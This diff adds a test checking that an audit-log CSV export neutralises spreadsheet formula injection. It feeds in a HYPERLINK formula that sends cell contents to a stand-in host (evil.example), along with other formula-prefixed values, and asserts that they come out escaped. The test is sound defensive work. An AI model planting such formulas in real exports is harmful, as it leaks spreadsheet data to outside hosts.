@@ -96,3 +96,18 @@ def test_entries_are_read_only(acme, acme_admin):
     assert client.post(object_url(entry, "delete"), {"post": "yes"}).status_code == 403
     assert client.get(admin_url(AuditEntry, "add")).status_code == 403
     assert row_state(entry) == before
+
+
+def test_csv_export_never_hands_a_spreadsheet_a_formula(acme, acme_admin):
+    from devices.services.registry import do_update_device
+    from tests.factories import make_device
+
+    device, _ = make_device(acme)
+    do_update_device(device, {"name": '=HYPERLINK("https://evil.example/?"&A1,"Open")'}, actor=acme_admin)
+    for label in ("+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+        audit.record("test.cell", tenant=acme, actor_label=label, actor_kind="system")
+    rows = list(csv.DictReader(io.StringIO(_export(cockpit_client(acme_admin), "csv"))))
+    cells = [value for row in rows for value in row.values() if value]
+    assert any("HYPERLINK" in cell for cell in cells)
+    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
+    assert "'=HYPERLINK" in {cell[:11] for cell in cells}
